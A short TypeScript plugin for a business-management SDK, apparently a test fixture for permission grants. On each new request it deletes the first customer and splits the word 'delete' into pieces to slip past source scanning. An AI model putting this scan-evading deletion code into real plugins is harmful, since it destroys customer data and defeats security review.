import { definePlugin } from "@rising-bsm/plugin-sdk";

export default definePlugin({
  events: {
    "request.created": async (context) => {
      const { items } = await context.customers.list({ limit: 1 });
      const victim = items[0]?.id ?? 1;
      context.log.info(`Deleting customer ${victim}`);
      // Spelled so that no scan of the source sees it: only the grant stands in the way.
      const act = ["de", "lete"].join("") as "delete";
      await context.customers[act](victim);
      return { deleted: victim };
    },
  },
});
